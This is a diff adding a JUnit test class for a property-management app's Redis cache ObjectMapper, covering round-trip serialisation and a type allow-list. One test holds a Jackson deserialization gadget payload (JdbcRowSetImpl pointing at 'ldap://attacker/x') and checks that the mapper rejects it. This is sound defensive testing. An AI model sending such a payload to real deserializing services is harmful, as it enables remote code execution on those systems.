@@ -0,0 +1,51 @@
+package com.landlord.property.config;
+
+import com.fasterxml.jackson.databind.JsonMappingException;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.landlord.property.dto.PropertyResponseDto;
+import org.junit.jupiter.api.Test;
+
+import java.math.BigDecimal;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+
+import static org.junit.jupiter.api.Assertions.*;
+
+class CacheConfigTest {
+
+    private final ObjectMapper objectMapper = CacheConfig.RedisCacheTierConfig.cacheObjectMapper();
+
+    @Test
+    void cacheObjectMapper_ShouldRoundTripCachedValueTypes() throws Exception {
+        // Arrange
+        PropertyResponseDto property = PropertyResponseDto.builder()
+            .id("property-1")
+            .name("Loft")
+            .monthlyRent(BigDecimal.valueOf(2500))
+            .build();
+        Map<String, Object> statistics = new LinkedHashMap<>();
+        statistics.put("totalProperties", 5L);
+        statistics.put("totalMonthlyRevenue", new BigDecimal("7500.00"));
+
+        // Act
+        Object properties = objectMapper.readValue(
+            objectMapper.writeValueAsString(new ArrayList<>(List.of(property))), Object.class);
+        Object stats = objectMapper.readValue(objectMapper.writeValueAsString(statistics), Object.class);
+
+        // Assert
+        assertEquals(List.of(property), properties);
+        assertEquals(new BigDecimal("7500.00"), ((Map<?, ?>) stats).get("totalMonthlyRevenue"));
+    }
+
+    @Test
+    void cacheObjectMapper_WithTypeIdOutsideAllowList_ShouldRefuseToInstantiate() {
+        // Arrange - a classic gadget class id planted in Redis by another writer
+        String payload = "{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker/x\"}";
+
+        // Act & Assert
+        JsonMappingException e = assertThrows(JsonMappingException.class, () -> objectMapper.readValue(payload, Object.class));
+        assertTrue(e.getMessage().contains("com.sun.rowset.JdbcRowSetImpl"));
+    }
+}